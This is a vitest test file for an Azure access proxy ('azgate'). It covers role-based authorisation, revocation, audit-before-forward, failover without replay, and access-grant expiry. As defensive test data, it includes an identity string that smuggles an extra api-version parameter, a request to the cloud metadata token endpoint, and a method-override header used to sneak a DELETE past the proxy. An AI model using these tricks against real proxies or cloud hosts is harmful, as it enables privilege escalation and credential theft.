/**
 * The proxy's request path in process (test/helpers/memory-cluster.ts): the
 * real state, authorisation, audit, relay and agent forwarder, joined by
 * in-memory tunnels, against the emulator. Each case costs milliseconds, so
 * each rule gets its own: authorisation on current roles, revocation (lock,
 * reset, deletion) on the next request, audit before forwarding, failover
 * only when it is safe, and agents that fall silent (an injected clock).
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { useEmulator } from "./helpers/emulator.ts";
import { IDENTITY } from "./helpers/cluster.ts";
import { startMemoryCluster, type MemoryApp, type MemoryCluster } from "./helpers/memory-cluster.ts";
import { createLock } from "../src/proxy/locks.ts";
import { addUser, removeResource, resetUser, updateUser } from "../src/proxy/admin.ts";
import { createRequest, recordEndings, reviewRequest, revokeRequest } from "../src/proxy/access-requests.ts";
import { servedApps } from "../src/proxy/registry.ts";
import { KEYS } from "../src/proxy/keys.ts";
import { issueAppCert } from "../src/proxy/apps.ts";
import { generateKeyPair, publicKeyToPem } from "../src/pki/keys.ts";
import type { AccessGrant, AccessRequest } from "../src/resources/access-request.ts";
import type { Lock } from "../src/resources/lock.ts";
import { finishSsoLogin } from "../src/proxy/sso/finish.ts";
import type { Connector } from "../src/resources/connector.ts";
import type { SsoAttempt } from "../src/proxy/sso/attempt.ts";
import type { AuditEvent } from "../src/audit/sink.ts";
import type { TunnelStream } from "../src/tunnel/index.ts";
import type { Caller } from "../src/proxy/caller.ts";

const fx = useEmulator({ projectToken: true });
const READER = IDENTITY("teleport-reader");
const CONTRIB = IDENTITY("teleport-contributor");
/** The review's case: ARM reads the first api-version and the contributor; azgate's rules read another string. */
const SMUGGLED = `${CONTRIB}?api-version=2023-01-31&x=`;
/** READER as Azure also reads it: keyword, provider and type segments, group and name in other cases. */
const READER_SPELLED = READER.replace("/subscriptions/", "/SUBSCRIPTIONS/").replace("resourceGroups/myResourceGroup", "resourcegroups/MYRESOURCEGROUP").replace("Microsoft.ManagedIdentity/userAssignedIdentities/teleport-reader", "microsoft.managedidentity/USERASSIGNEDIDENTITIES/Teleport-Reader");
/** How azgate stores READER_SPELLED: Azure's spelling of the fixed segments and the GUID, the group and name as written. */
const READER_STORED = READER.replace("resourceGroups/myResourceGroup", "resourceGroups/MYRESOURCEGROUP").replace("/teleport-reader", "/Teleport-Reader");
const GROUP_PATTERN = "/subscriptions/*/resourceGroups/myResourceGroup/providers/Microsoft.ManagedIdentity/userAssignedIdentities/*";
const GROUPS = "https://management.azure.com/subscriptions/00000000-0000-0000-0000-000000000000/resourcegroups?api-version=2022-09-01";
const ROLES = `kind: role
version: v7
metadata: {name: azure-cli-access}
spec: {allow: {app_labels: {'*': '*'}, azure_identities: ['{{internal.azure_identities}}']}}
---
kind: role
version: v7
metadata: {name: dev-only}
spec: {allow: {app_labels: {env: dev}, azure_identities: ['{{internal.azure_identities}}']}}
---
kind: role
version: v7
metadata: {name: requester}
spec: {allow: {app_labels: {'*': '*'}, request: {azure_identities: ['${IDENTITY("teleport-reader")}'], max_duration: 1h}}}
---
kind: role
version: v7
metadata: {name: group-requester}
spec:
  allow: {app_labels: {'*': '*'}, request: {azure_identities: ['${GROUP_PATTERN}'], max_duration: 1h}}
  deny: {azure_identities: ['${CONTRIB}']}
---
kind: role
version: v7
metadata: {name: guard}
spec:
  deny:
    azure_api:
      - preset: no-privilege-escalation
      - {methods: [GET], hosts: ['*.blob.core.windows.net'], paths: ['/reports/secret.txt']}
---
kind: role
version: v7
metadata: {name: prod-reader}
spec: {allow: {app_labels: {env: prod}, azure_identities: ['${IDENTITY("teleport-reader")}'], azure_api: [{actions: ['*/read']}]}}
---
kind: role
version: v7
metadata: {name: role-requester}
spec: {allow: {request: {roles: [prod-reader], max_duration: 1h}}}
`;
const PROD_READER = `kind: role
version: v7
metadata: {name: prod-reader}
spec: {allow: {app_labels: {env: prod}, azure_identities: ['${IDENTITY("teleport-reader")}'], azure_api: [{actions: ['*/read']}]}}
`;

describe("the proxy's request path, in process", () => {
  let c: MemoryCluster;
  let prod: ReturnType<MemoryCluster["agent"]>;
  let users = 0;
  const nextUser = () => `user${++users}`;
  const events = async (event: string, user: string): Promise<AuditEvent[]> => (await c.ctx.audit.search({ event })).filter((e) => e.event === event && e.user === user);
  /** Holds every request's start event back until `store()`: `writing` resolves once one is being written; `restore()` undoes it. */
  const gateStartEvents = () => {
    let store!: () => void;
    const stored = new Promise<void>((r) => (store = r));
    let asked!: () => void;
    const writing = new Promise<void>((r) => (asked = r));
    const emit = c.ctx.audit.emit.bind(c.ctx.audit);
    c.ctx.audit.emit = async (e) => {
      if (e.event === "app.request.start") (asked(), await stored);
      return emit(e);
    };
    return { store, writing, restore: () => ((c.ctx.audit.emit = emit), store()) };
  };

  beforeAll(async () => {
    c = await startMemoryCluster(fx);
    await c.createRoles(ROLES);
    prod = c.agent();
  });
  afterAll(async () => {
    await c?.close();
  });
  afterEach(() => {
    // Every test starts with the prod agent alive on the registry's clock.
    prod.heartbeat();
  });

  it("forwards an allowed request, audited before and after, with the agent that served it", async () => {
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    const res = await app.request(GROUPS);
    expect(res.status).toBe(200);
    expect(JSON.parse(await res.text()).value.length).toBeGreaterThan(0);
    await expect.poll(async () => (await events("app.request", user)).length).toBe(1);
    const [start] = await events("app.request.start", user);
    const [done] = await events("app.request", user);
    expect(start).toMatchObject({ method: "GET", host: "management.azure.com", azure_identity: READER });
    expect(done).toMatchObject({ status: 200, success: true, agent_id: "agent-1", request_id: start.request_id });
    expect(Date.parse(start.time)).toBeLessThanOrEqual(Date.parse(done.time));
  });

  it("records what the client says it ran (az's command and flag names, never values) and Azure's correlation ID, on every event of the request", async () => {
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    const said: [string, string][] = [
      ["CommandName", "group list"],
      ["ParameterSetName", "--query hunter2-SECRET -o"],
      ["x-ms-client-request-id", "8d2b5f0e-1a2b-11ef-9f3c-0242ac120002"],
      ["user-agent", "AZURECLI/2.45.0 (DEB) azsdk-python-azure-mgmt-resource/21.1.0 (token=SECRET-IN-COMMENT)"],
      ["x-ms-correlation-request-id", "c1a05e00-0000-4000-8000-00000000c1a0"],
    ];
    expect((await app.request(GROUPS, { headers: said })).status).toBe(200);
    const client = { command: "group list", parameters: "--query -o", client_request_id: "8d2b5f0e-1a2b-11ef-9f3c-0242ac120002", correlation_request_id: "c1a05e00-0000-4000-8000-00000000c1a0", user_agent: "AZURECLI/2.45.0 azsdk-python-azure-mgmt-resource/21.1.0" };
    await expect.poll(async () => (await events("app.request", user)).length).toBe(1);
    const [start] = await events("app.request.start", user);
    const [done] = await events("app.request", user);
    for (const e of [start, done]) expect(e).toMatchObject({ client, command_id: "az:8d2b5f0e-1a2b-11ef-9f3c-0242ac120002" });
    // Azure got azgate's request ID as its correlation ID, not the client's; the agent says whose token Azure saw.
    expect(done.azure_correlation_id).toBe(start.request_id);
    expect(fx.emu.requests.find((r) => r.headers["x-ms-correlation-request-id"] === start.request_id)).toBeTruthy();
    expect(fx.emu.requests.some((r) => r.headers["x-ms-correlation-request-id"] === client.correlation_request_id)).toBe(false);
    expect(done.azure_principal_id).toBe("10000000-0000-4000-8000-000000000002");
    expect(JSON.stringify([start, done])).not.toMatch(/SECRET/);
    // A refused request carries it too.
    const refused = await app.request("https://169.254.169.254/metadata/identity/oauth2/token", { headers: said });
    expect(refused.status).toBe(403);
    expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ client, command_id: "az:8d2b5f0e-1a2b-11ef-9f3c-0242ac120002" })]);
  });

  it("authorises on the current roles: a role taken away refuses the next request, audited", async () => {
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    expect((await app.request(GROUPS)).status).toBe(200);
    await updateUser(c.ctx, c.admin, user, { roles: ["auditor"] });
    const refused = await app.request(GROUPS);
    expect(refused.status).toBe(403);
    expect(JSON.parse(await refused.text()).error).toEqual({ code: "access_denied", message: 'azgate: no role allows app "azure-cli"' });
    expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "access_denied", success: false })]);
  });

  it.each([
    ["a lock on the user", async (user: string) => void (await createLock(c.ctx, c.admin, { target: { user }, message: "incident" })), "locked"],
    ["a reset", async (user: string) => void (await resetUser(c.ctx, c.admin, user)), "unauthenticated"],
    ["deleting the user", async (user: string) => void (await removeResource(c.ctx, c.admin, "user", user)), "unauthenticated"],
    ["deleting and re-creating the user", async (user: string) => void (await removeResource(c.ctx, c.admin, "user", user), await addUser(c.ctx, c.admin, user, ["azure-cli-access"], { azure_identities: [READER] })), "unauthenticated"],
  ])("revokes on the next request with the refusal's own status and code (403 locked, 401 unauthenticated; never a 5xx clients retry): %s", async (_name, revoke, code) => {
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    expect((await app.request(GROUPS)).status).toBe(200);
    await revoke(user);
    const refused = await app.request(GROUPS);
    expect(refused.status).toBe(code === "locked" ? 403 : 401);
    expect(JSON.parse(await refused.text()).error.code).toBe(code);
    expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: code })]);
  });

  it("writes the audit event before forwarding: when the log cannot be written, nothing reaches Azure", async () => {
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    const emit = c.ctx.audit.emit.bind(c.ctx.audit);
    c.ctx.audit.emit = async (e) => {
      if (e.event === "app.request.start") throw new Error("disk full");
      return emit(e);
    };
    const before = fx.emu.requests.length;
    try {
      const res = await app.request(`${GROUPS}&probe=${user}`);
      expect(res.status).toBe(503);
      expect(JSON.parse(await res.text()).error.code).toBe("audit_unavailable");
    } finally {
      c.ctx.audit.emit = emit;
    }
    expect(fx.emu.requests.slice(before).some((r) => r.path.includes(`probe=${user}`))).toBe(false);
  });

  it.each([
    ["a remote log (PostgreSQL) and an agent that holds: it has the request, checked, while the start event is written", true, true],
    ["a local log (files): the agent gets the request once the start event is stored, even one that could hold", false, false],
    ["a remote log and an agent from before held requests: it gets the request only once the start event is stored", true, false],
  ])("Azure sees nothing before the start event is stored; %s", async (_name, remote, agentHolds) => {
    const holds = remote && agentHolds;
    const user = nextUser();
    const wasRemote = c.ctx.audit.remote;
    Object.assign(c.ctx.audit, { remote });
    let atAgent: TunnelStream | null = null;
    let waiting!: () => void;
    const agentWaits = new Promise<void>((r) => (waiting = r));
    c.agent({
      app: `gate-${remote}-${agentHolds}`,
      holds: agentHolds,
      onStream: (s, forward) => {
        atAgent = s;
        // The forwarder reads a META only to wait for the release: it has made its checks.
        const readMeta = s.readMeta.bind(s);
        s.readMeta = () => (waiting(), readMeta());
        void forward();
      },
    });
    const app = await c.appSession(user, ["azure-cli-access"], READER, { app: `gate-${remote}-${agentHolds}` });
    const { store, restore } = gateStartEvents();
    const seen = () => fx.emu.requests.some((r) => r.path.includes(`probe=${user}`));
    try {
      const answer = app.request(`${GROUPS}&probe=${user}`);
      if (holds) {
        await agentWaits;
        expect(atAgent!.meta.hold).toBe(true);
      }
      // A negative: the request is given the time to reach Azure, and must not.
      await new Promise((r) => setTimeout(r, 100));
      expect(seen()).toBe(false);
      if (!holds) expect(atAgent).toBeNull();
      store();
      const res = await answer;
      expect(res.status).toBe(200);
      expect(seen()).toBe(true);
      expect(atAgent!.meta.hold).toBe(holds ? true : undefined);
      // The start event that was held back is the one in the log, with the request it let through.
      expect(await events("app.request.start", user)).toEqual([expect.objectContaining({ query: expect.stringContaining(`probe=${user}`), app: `gate-${remote}-${agentHolds}` })]);
    } finally {
      restore();
      Object.assign(c.ctx.audit, { remote: wasRemote });
    }
  });

  it("apps login learns the identity's client, principal and tenant IDs from an agent, audited; one it cannot learn leaves them unknown and login still works", async () => {
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    const facts = { client_id: "00000000-0000-4000-8000-000000000002", principal_id: "10000000-0000-4000-8000-000000000002" };
    expect(app.login).toMatchObject({ ...facts, tenant_id: fx.emu.world.tenant_id });
    expect(await events("app.session.start", user)).toEqual([expect.objectContaining(facts)]);
    // An identity Azure does not have: the agent cannot tell, so nothing is made up.
    const other = nextUser();
    const ghost = await c.appSession(other, ["azure-cli-access"], IDENTITY("ghost"));
    expect([ghost.login.client_id, ghost.login.principal_id]).toEqual([null, null]);
    expect((await events("app.session.start", other))[0].identity_facts).toMatch(/ghost/);
  });

  // What each request of a tunnel is decided on is worked out once per tunnel and access snapshot (caller.ts,
  // authorize-request.ts onServer), not per request: each way the decision could be left stale, played on one
  // tunnel that was allowed a moment before. Each is refused on its very next request, audited.
  describe("one tunnel's cached decisions follow every change on the next request", () => {
    const edited = (name: string, spec: string) => c.createRoles(`kind: role\nversion: v7\nmetadata: {name: ${name}}\nspec: ${spec}\n`);

    it("its role edited in place to drop the identity (the role, not the user, changed)", async () => {
      await edited("cached-a", `{allow: {app_labels: {'*': '*'}, azure_identities: ['${READER}']}}`);
      const user = nextUser();
      const app = await c.appSession(user, ["cached-a"], READER);
      for (let i = 0; i < 3; i++) expect((await app.request(GROUPS)).status).toBe(200);
      await edited("cached-a", `{allow: {app_labels: {'*': '*'}, azure_identities: ['${CONTRIB}']}}`);
      const refused = await app.request(GROUPS);
      expect(refused.status).toBe(403);
      expect(JSON.parse(await refused.text()).error.code).toBe("access_denied");
      expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "access_denied", success: false })]);
    });

    it("its role edited to restrict the API (azure_api added): the policy worked out before is not reused", async () => {
      await edited("cached-b", `{allow: {app_labels: {'*': '*'}, azure_identities: ['${READER}']}}`);
      const user = nextUser();
      const app = await c.appSession(user, ["cached-b"], READER);
      for (let i = 0; i < 3; i++) expect((await app.request(GROUPS)).status).toBe(200);
      await edited("cached-b", `{allow: {app_labels: {'*': '*'}, azure_identities: ['${READER}'], azure_api: [{actions: ['Microsoft.Storage/*']}]}}`);
      const refused = await app.request(GROUPS);
      expect(refused.status).toBe(403);
      expect(JSON.parse(await refused.text()).error.code).toBe("AzgatePolicyDenied");
      expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "policy_denied", action: "Microsoft.Resources/subscriptions/resourceGroups/read" })]);
    });

    it("a lock on one of its roles, written after its decisions were made", async () => {
      await edited("cached-c", `{allow: {app_labels: {'*': '*'}, azure_identities: ['${READER}']}}`);
      const user = nextUser();
      const app = await c.appSession(user, ["cached-c"], READER);
      for (let i = 0; i < 3; i++) expect((await app.request(GROUPS)).status).toBe(200);
      await createLock(c.ctx, c.admin, { target: { role: "cached-c" }, message: "role frozen" });
      const refused = await app.request(GROUPS);
      expect(refused.status).toBe(403);
      expect(JSON.parse(await refused.text()).error).toMatchObject({ code: "locked", message: expect.stringContaining("role frozen") });
      expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "locked" })]);
    });

    it("its only server relabelled by a heartbeat, with no write to the backend: decided on the new labels", async () => {
      const dev = c.agent({ app: "cached-app", labels: { env: "dev" } });
      const user = nextUser();
      const app = await c.appSession(user, ["dev-only"], READER, { app: "cached-app" });
      for (let i = 0; i < 3; i++) expect((await app.request(GROUPS)).status).toBe(200);
      c.registry.heartbeat(dev.tunnel, [{ name: "cached-app", cloud: "Azure", uri: "cloud://Azure", labels: { env: "prod" } }]);
      const refused = await app.request(GROUPS);
      expect(refused.status).toBe(403);
      expect(JSON.parse(await refused.text()).error.code).toBe("access_denied");
      expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "access_denied" })]);
      expect(dev.streams).toBe(3);
      dev.kill();
    });
  });

  it("routes only to servers the caller's roles allow, each on its own labels", async () => {
    const dev = c.agent({ labels: { env: "dev" } });
    const user = nextUser();
    const app = await c.appSession(user, ["dev-only"], READER);
    for (let i = 0; i < 5; i++) expect((await app.request(GROUPS)).status).toBe(200);
    expect(dev.streams).toBe(5);
    dev.kill();
    // With its only allowed server gone, the request is refused, never sent to the prod agent.
    await new Promise((r) => setImmediate(r));
    const refused = await app.request(GROUPS);
    expect(refused.status).toBe(403);
  });

  it("fails over a request without a body to another agent when one goes away before answering; a request with a body is not replayed", async () => {
    // It goes away once the request's body (or its end) has reached it.
    const dying = c.agent({ labels: { env: "prod" }, onStream: (s) => void s.read().then(() => s.reset(6, "agent went away"), () => undefined) });
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    let answered = 0;
    for (let i = 0; i < 4; i++) {
      const res = await app.request(GROUPS);
      expect(res.status).toBe(200);
      answered++;
    }
    expect(answered).toBe(4);
    expect(dying.streams).toBeGreaterThan(0); // it was tried, and the request went on to the other agent
    // A body already sent cannot be replayed: the client sees the stream fail, never a half request elsewhere.
    let failed = 0;
    for (let i = 0; i < 4; i++) {
      const res = await app
        .request("https://management.azure.com/subscriptions/00000000-0000-0000-0000-000000000000/resourcegroups/rg-x?api-version=2022-09-01", { method: "PUT", body: new TextEncoder().encode('{"location":"westeurope"}') })
        .then((r) => r.text().then(() => r.status))
        .catch(() => "reset");
      if (res === "reset" || res === 502) failed++;
    }
    expect(failed).toBeGreaterThan(0);
    dying.kill();
  });

  // Found by an outside review (an attack helper): a DELETE without a body whose agent died after sending it to Azure
  // was sent again by another agent, under the one start event. Only a safe method is sent again once it may have gone.
  it.each([
    ["DELETE", 1, "is answered as failed and not sent to Azure again"],
    ["POST", 1, "is answered as failed and not sent to Azure again"],
    ["GET", 2, "is sent again on the other agent (a safe method)"],
    ["GET with X-HTTP-Method-Override: DELETE", 1, "is answered as failed and not sent to Azure again"],
  ])("a %s whose agent goes away after it may have reached Azure, before its answer, %s", async (what, times, _what) => {
    const method = what.split(" ")[0];
    const headers: [string, string][] = what.includes("Override") ? [["X-HTTP-Method-Override", "DELETE"]] : [];
    const user = nextUser();
    const app = `once-${what.replace(/\W+/g, "-").toLowerCase()}`.slice(0, 63).replace(/-+$/, "");
    let streams = 0;
    const agents: ReturnType<typeof c.agent>[] = [];
    // Whichever agent gets the first stream forwards it for real, then its tunnel drops as Azure's answer comes back.
    const onStream = (s: TunnelStream, forward: () => Promise<void>) => {
      if (++streams === 1) {
        const mine = agents.find((a) => a.streams === 1)!;
        // Azure answered; nothing of the answer leaves the agent before its tunnel drops.
        s.sendMeta = () => void setImmediate(() => mine.kill());
        s.write = () => new Promise<void>(() => undefined);
      }
      void forward().catch(() => undefined);
    };
    agents.push(c.agent({ app, onStream }), c.agent({ app, onStream }));
    const session = await c.appSession(user, ["azure-cli-access"], READER, { app });
    const url = method === "POST" ? `https://management.azure.com${READER}/listAssociatedResources?api-version=2024-11-30&probe=${user}` : method === "GET" ? `${GROUPS}&probe=${user}` : `https://management.azure.com/subscriptions/00000000-0000-0000-0000-000000000000/resourcegroups/rg-${user}?api-version=2022-09-01&probe=${user}`;
    const res = await session.request(url, { method, headers });
    await res.text().catch(() => undefined);
    const reached = () => fx.emu.requests.filter((r) => r.path.includes(`probe=${user}`)).length;
    await expect.poll(async () => (await events("app.request", user)).length).toBe(1);
    expect(reached()).toBe(times);
    expect(streams).toBe(times);
    expect(await events("app.request.start", user)).toHaveLength(1);
    if (times === 1) {
      expect(res.status).toBe(502);
      expect((await events("app.request", user)).filter((e) => e.code === "T2009E")).toEqual([expect.objectContaining({ method, error: expect.stringContaining(`the ${method} may have reached Azure, so it is not sent again`) })]);
    } else expect(res.status).toBe(200);
    for (const a of agents) a.kill();
  });

  it("a request the client gives up on while its start event is written goes to no agent", async () => {
    const user = nextUser();
    const app = "given-up";
    let streams = 0;
    const agents = [1, 2].map(() => c.agent({ app, onStream: (_s, forward) => void (streams++, forward().catch(() => undefined)) }));
    const session = await c.appSession(user, ["azure-cli-access"], READER, { app });
    const { store, writing, restore } = gateStartEvents();
    try {
      const stream = session.session.open({ kind: "http", method: "GET", url: `${GROUPS}&probe=${user}`, headers: [] });
      stream.end();
      await writing;
      stream.reset(4, "client cancelled");
      await new Promise((r) => setTimeout(r, 50));
      store();
      await expect.poll(async () => (await events("app.request", user)).length).toBe(1);
      expect(streams).toBe(0);
      expect(fx.emu.requests.some((r) => r.path.includes(`probe=${user}`))).toBe(false);
    } finally {
      restore();
      for (const a of agents) a.kill();
    }
  });

  it("drops an agent that falls silent for 45 s (the registry's clock): its app is unavailable, audited", async () => {
    const user = nextUser();
    const app = await c.appSession(user, ["azure-cli-access"], READER);
    expect((await app.request(GROUPS)).status).toBe(200);
    c.clock.advance(46_000);
    const res = await app.request(GROUPS);
    expect(res.status).toBe(503);
    expect(JSON.parse(await res.text()).error.code).toBe("app_unavailable");
    expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "app_unavailable" })]);
    // (afterEach heartbeats the prod agent again, at the clock's new time.)
  });

  // Grants, their windows and TTL locks by the cluster's clock (c.clock), moved, never waited for.
  const approvedSession = async (user: string, duration: string, roles = ["requester"]) => {
    let id = "";
    let caller = null as unknown as Caller;
    const app = await c.appSession(user, roles, READER, {
      traits: {},
      beforeAppLogin: async (signedIn) => {
        caller = signedIn;
        id = (await createRequest(c.ctx, caller, { app: "azure-cli", azure_identity: READER, duration, reason: "INC-1" }, servedApps(c.registry))).metadata.name;
        await reviewRequest(c.ctx, c.admin, id, { state: "APPROVED", reason: "on call" });
      },
    });
    return { app, id, caller };
  };

  it("a grant lets a user with no standing access through until its window ends (the cluster's clock): the next request after it is refused, audited, and the end is recorded once", async () => {
    const user = nextUser();
    const { app, id } = await approvedSession(user, "10m");
    expect((await app.request(GROUPS)).status).toBe(200);
    // (The end event is written after the answer: polled, as in the first test.)
    await expect.poll(async () => await events("app.request", user)).toEqual([expect.objectContaining({ access_request_id: id, status: 200 })]);
    c.clock.advance(10 * 60_000 - 1);
    prod.heartbeat();
    expect((await app.request(GROUPS)).status).toBe(200);
    c.clock.advance(1);
    prod.heartbeat();
    const refused = await app.request(GROUPS);
    expect(refused.status).toBe(403);
    // The denial names the request that granted it, that its window ended (when), and the command to ask again (issue 31, item 3).
    const notAfter = new Date(c.clock.now()).toISOString();
    const said = `no role allows Azure identity "${READER}" on app "azure-cli"; access request ${id} granted it and has ended: expired at ${notAfter}, when its window ended; to ask again: azgate request create --app azure-cli --azure-identity teleport-reader --for 1h`;
    expect(JSON.parse(await refused.text()).error).toEqual({ code: "access_denied", message: `azgate: ${said}` });
    // The audit event keeps its code; its reason says the same.
    expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "access_denied", reason: said, success: false })]);
    expect(await recordEndings(c.ctx)).toBe(1);
    expect(await recordEndings(c.ctx)).toBe(0);
    expect(await events("access_grant.end", user)).toEqual([expect.objectContaining({ access_request_id: id, why: "window ended" })]);
  });

  it("a revoke ends a grant on the next request, with no time passing", async () => {
    const user = nextUser();
    const { app, id, caller } = await approvedSession(user, "1h");
    expect((await app.request(GROUPS)).status).toBe(200);
    // (The fake clock stands still: the revoke's time is its now.)
    const revokedAt = new Date(c.clock.now()).toISOString();
    await revokeRequest(c.ctx, c.admin, id, { reason: "done" });
    const refused = await app.request(GROUPS);
    expect(refused.status).toBe(403);
    // Who revoked it, when and why, and the command to ask again (issue 31, item 3); the event keeps its code.
    const said = `no role allows Azure identity "${READER}" on app "azure-cli"; access request ${id} granted it and has ended: revoked by @local-admin at ${revokedAt} ("done"); to ask again: azgate request create --app azure-cli --azure-identity teleport-reader --for 1h`;
    expect(JSON.parse(await refused.text()).error).toEqual({ code: "access_denied", message: `azgate: ${said}` });
    expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "access_denied", reason: said })]);
    // apps login says the same about the ended grant, audited.
    const appKey = await generateKeyPair();
    const login = issueAppCert(c.ctx, c.registry, caller, new Date(c.clock.now() + 3_600_000), { app: "azure-cli", azure_identity: READER, public_key_pem: await publicKeyToPem(appKey.publicKey) });
    await expect(login).rejects.toThrow(`access to Azure identity "${READER}" on app "azure-cli" denied: ${said}`);
    expect(await events("app.session.denied", user)).toEqual([expect.objectContaining({ reason: said, success: false })]);
    // With the requester role gone, the note says the roles no longer let them ask (no command that would fail).
    await updateUser(c.ctx, c.admin, user, { roles: ["access"] });
    const gone = JSON.parse(await (await app.request(GROUPS)).text()).error.message;
    expect(gone).toContain(`access request ${id} granted it and has ended: revoked by @local-admin`);
    expect(gone).toMatch(/your roles no longer let you request it$/);
  });

  it("a revoke that lands while the approval is still writing its grant wins: the grant left behind is refused, audited", async () => {
    const user = nextUser();
    const put = c.ctx.backend.put.bind(c.ctx.backend);
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    // Hold the approval between storing APPROVED and writing the grant.
    c.ctx.backend.put = async (key, value, opts) => {
      if (key.startsWith(KEYS.accessGrants)) await gate;
      return put(key, value, opts);
    };
    let id = "";
    try {
      const app = await c.appSession(user, ["requester"], READER, {
        traits: {},
        beforeAppLogin: async (caller) => {
          id = (await createRequest(c.ctx, caller, { app: "azure-cli", azure_identity: READER, duration: "1h", reason: "INC-9" }, servedApps(c.registry))).metadata.name;
          const reviewing = reviewRequest(c.ctx, c.admin, id, { state: "APPROVED", reason: "ok" });
          await expect.poll(async () => (await c.ctx.backend.get<AccessRequest>(KEYS.accessRequest(id)))!.value.spec.state).toBe("APPROVED");
          expect((await revokeRequest(c.ctx, c.admin, id, { reason: "wrong ticket" })).spec.state).toBe("REVOKED");
          release();
          await reviewing;
        },
      }).catch((e) => e);
      expect(app).toMatchObject({ code: "access_denied" });
      expect(await c.ctx.backend.get(KEYS.accessGrant(id))).not.toBeNull();
      expect((await events("app.session.denied", user)).length).toBe(1);
    } finally {
      c.ctx.backend.put = put;
      release();
    }
  });

  it("an auto-review rule's schedule covers the grant window: asked in its hours for a window after them, the request waits for a human; inside them it is approved", async () => {
    const now = c.clock.date();
    const hh = (h: number) => String(h % 24).padStart(2, "0");
    // This hour and the next (UTC): a window that starts in 90 minutes is past them.
    await c.createRoles(`kind: access_rule\nversion: v1\nmetadata: {name: office-hours}\nspec:\n  condition: 'request.reason == "auto-ok"'\n  schedule: {timezone: UTC, hours: "${hh(now.getUTCHours())}:00-${hh(now.getUTCHours() + 2)}:00"}\n  decision: APPROVED\n`);
    try {
      const states: Record<string, string> = {};
      await c.signIn(nextUser(), ["requester"], {}).then(async ({ caller }) => {
        for (const [name, startIn, duration] of [["after hours", 150 * 60_000, "30m"], ["inside", 0, "30m"]] as const) {
          const start = new Date(c.clock.now() + startIn).toISOString();
          const r = await createRequest(c.ctx, caller, { app: "azure-cli", azure_identity: READER, duration, reason: "auto-ok", start }, servedApps(c.registry));
          states[name] = `${r.spec.state} ${r.spec.resolution?.by ?? "-"}`;
          if (r.spec.state === "PENDING") await c.ctx.backend.delete(KEYS.accessRequest(r.metadata.name));
        }
      });
      expect(states).toEqual({ "after hours": "PENDING -", inside: "APPROVED rule/office-hours" });
    } finally {
      await removeResource(c.ctx, c.admin, "access_rule", "office-hours");
    }
  });

  it("a granted role taken out of request.roles mid-grant stops widening the grant on the next request, while its denies still apply, audited", async () => {
    const G = (name: string, rule: string, extra = "") => `kind: role\nversion: v7\nmetadata: {name: ${name}}\nspec: {allow: {app_labels: {'*': '*'}, azure_identities: ['${READER}'], azure_api: [${rule}]}${extra}}\n`;
    const requester = (roles: string) => `kind: role\nversion: v7\nmetadata: {name: g-requester}\nspec: {allow: {app_labels: {'*': '*'}, request: {roles: [${roles}], max_duration: 1h}}}\n`;
    await c.createRoles([G("g-reader", "{actions: ['*/read']}"), G("g-writer", "{actions: ['*']}", ", deny: {azure_api: [{actions: ['Microsoft.Resources/subscriptions/resourceGroups/read'], scopes: ['/subscriptions/*/resourceGroups/production']}]}"), requester("g-reader, g-writer")].join("---\n"));
    const user = nextUser();
    const { app, id } = await approvedSession(user, "1h", ["g-requester"]);
    const PRODUCTION = "https://management.azure.com/subscriptions/00000000-0000-0000-0000-000000000000/resourcegroups/production?api-version=2022-09-01";
    // Allowed by g-writer's '*' (then refused by Azure itself: the identity is a Reader there).
    const before = await put(app);
    expect(JSON.parse(await before.text()).error.code).toBe("AuthorizationFailed");
    expect((await app.request(PRODUCTION)).status).toBe(403);
    // g-writer may no longer be requested: its '*' no longer comes with the grant; its deny still does.
    await c.createRoles(requester("g-reader"));
    const write = await put(app);
    expect(write.status).toBe(403);
    expect(JSON.parse(await write.text()).error.code).toBe("AzgatePolicyDenied");
    expect((await app.request(GROUPS)).status).toBe(200);
    expect((await app.request(PRODUCTION)).status).toBe(403);
    const denied = await events("app.request.denied", user);
    expect(denied.map((e) => [e.action, e.access_request_id, (e.policy as { decision: string }).decision])).toEqual([
      ["Microsoft.Resources/subscriptions/resourceGroups/read", id, "deny"],
      ["Microsoft.Resources/subscriptions/resourceGroups/write", id, "deny"],
      ["Microsoft.Resources/subscriptions/resourceGroups/read", id, "deny"],
    ]);
  });

  it("a grant ends when the user may no longer request it: requester role taken away (identity or role grant), or a deny.request added", async () => {
    await c.createRoles(PROD_READER);
    for (const [requester, change] of [["requester", "roles"], ["role-requester", "roles"], ["role-requester", "deny"]] as const) {
      const user = nextUser();
      const { app, id } = await approvedSession(user, "1h", [requester]);
      expect((await app.request(GROUPS)).status).toBe(200);
      if (change === "roles") await updateUser(c.ctx, c.admin, user, { roles: ["azure-cli-access"] });
      else await c.createRoles(`kind: role\nversion: v7\nmetadata: {name: role-requester}\nspec:\n  allow: {request: {roles: [prod-reader], max_duration: 1h}}\n  deny: {request: {roles: [prod-reader]}}\n`);
      const refused = await app.request(GROUPS);
      expect(refused.status, `${requester} ${change}`).toBe(403);
      expect(JSON.parse(await refused.text()).error).toMatchObject({ code: "access_denied", message: expect.stringContaining("no longer holds") });
      expect(await events("app.request.denied", user)).toEqual([expect.objectContaining({ error_code: "access_denied" })]);
      expect(id).toBeTruthy();
    }
    await c.createRoles(ROLES);
  });

  // Grants cannot outgrow their roles (issue 29, defects 5-8): each case plays the walk-around the review found.
